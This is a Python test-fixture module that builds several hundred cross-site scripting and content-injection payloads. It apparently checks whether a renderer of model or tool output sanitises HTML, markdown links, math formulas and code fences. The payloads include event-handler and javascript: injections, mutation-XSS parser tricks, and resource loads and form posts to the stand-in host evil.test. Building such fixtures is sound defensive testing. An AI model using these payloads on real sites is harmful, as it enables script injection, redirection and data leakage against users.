"""What a hostile model or tool may say, in families; far more than 200 texts.

Each payload that would run calls `alert`, each that would load asks `evil.test`: both
are seen from outside the page.
"""

from itertools import product

_CALL = "alert(1)"
_EVIL = "https://evil.test"

_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "math",
    "a href=#",
    "iframe src=about:blank",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "//evil.test/x",
)
_LINKS = (
    "[press]({})",
    "[press](<{}>)",
    '[press]({} "title")',
    "![picture]({})",
    "<{}>",
    "[press][ref]\n\n[ref]: {}",
    '<a href="{}">press</a>',
    "<iframe src='{}'></iframe>",
    '<form action="{}"><button>press</button></form>',
)

RAW_HTML = [f"<{tag} {event}={_CALL}>" for tag, event in product(_TAGS, _EVENTS)]
LINKS = [link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<ScRiPt x='<'>alert(1)</sCrIpT>",
]
MUTATIONS = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src='x`' onerror=alert(1)//'>",
    '<img src="x" title="\u2028" onerror="alert(1)">',
    '<a href="java&Tab;script:alert(1)">x</a>',
    "<x onclick=alert(1) contenteditable>click</x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</form>",
    "<p is=custom-thing onpointerenter=alert(1)>x",
    "<table background=javascript:alert(1)><td>x",
]
LOADS = [
    f"<img src={_EVIL}/a.png>",
    f"<img srcset='{_EVIL}/a.png 1x'>",
    f"<picture><source srcset={_EVIL}/a.png><img></picture>",
    f"<link rel=stylesheet href={_EVIL}/a.css>",
    f"<link rel=prefetch href={_EVIL}/a>",
    f"<style>@import '{_EVIL}/a.css';</style>",
    f"<style>* {{ background: url({_EVIL}/a) }}</style>",
    f'<div style="background:url({_EVIL}/a)">x</div>',
    "<div style='position:fixed;inset:0;background:red'>over everything</div>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<base href={_EVIL}/>",
    f"<iframe src={_EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={_EVIL}/a.swf></object>",
    f"<embed src={_EVIL}/a.swf>",
    f"<video poster={_EVIL}/a.png><source src={_EVIL}/a.mp4></video>",
    f"<audio src={_EVIL}/a.mp3 autoplay></audio>",
    f"<svg><image href={_EVIL}/a.png /></svg>",
    f"<svg><use href={_EVIL}/a.svg#x /></svg>",
    f"<input type=image src={_EVIL}/a.png>",
    f"<form action={_EVIL}><input name=q autofocus></form>",
    f"<a ping={_EVIL} href=https://example.org>x</a>",
    f"![a picture]({_EVIL}/a.png)",
    f'![a picture]({_EVIL}/a.png "title" )',
    f"[![a picture]({_EVIL}/a.png)](https://example.org)",
    f"![x][ref]\n\n[ref]: {_EVIL}/a.png",
    f"<body background={_EVIL}/a.png>",
]
FORMULAS = [
    f"$${body}$$"
    for body in (
        "\\href{javascript:alert(1)}{x}",
        "\\url{javascript:alert(1)}",
        f"\\includegraphics{{{_EVIL}/a.png}}",
        "\\htmlData{onclick=alert(1)}{x}",
        "\\html{<img src=x onerror=alert(1)>}",
        "\\style{background:url(https://evil.test/a)}{x}",
        "\\class{arn-root}{x}",
        "\\text{<img src=x onerror=alert(1)>}",
        "\\def\\x{\\x\\x}\\x",
        "\\color{red;background:url(https://evil.test/a)}x",
        "<script>alert(1)</script>",
    )
]
FENCES = [
    '```"onmouseover=alert(1)\nx\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```json\n{"a": "</script><script>alert(1)</script>"}\n```',
    "`<img src=x onerror=alert(1)>`",
    "``<b onclick=alert(1)>`` <u onclick=alert(1)>",
    "    <s onclick=alert(1)>",
    "~~~\n$$\n~~~\n$$<script>alert(1)</script>",
    "```\nnever closed <img src=x onerror=alert(1)>",
]
STRUCTURES = [
    "> " * 300 + "<img src=x onerror=alert(1)>",
    "* " * 200 + "[x](javascript:alert(1))",
    "[" * 500 + "x" + "](javascript:alert(1))" * 5,
    "**" * 400 + "<svg onload=alert(1)>",
    "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>\n   - [x](javascript:alert(1))",
    "~~<b onclick=alert(1)>x</b>~~ **_<i onclick=alert(1)>_**",
    "[unclosed](javascript:alert(1)",
    "[unclosed",
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)",
    "\u202e<gnp.exe>\u202c \u200b<img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ufffd <img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "${alert(1)} {{alert(1)}} <%= alert(1) %> #{alert(1)}",
    "__proto__ constructor toString",
]

PAYLOADS = list(
    dict.fromkeys(
        RAW_HTML + LINKS + SCRIPTS + MUTATIONS + LOADS + FORMULAS + FENCES + STRUCTURES
    )
)
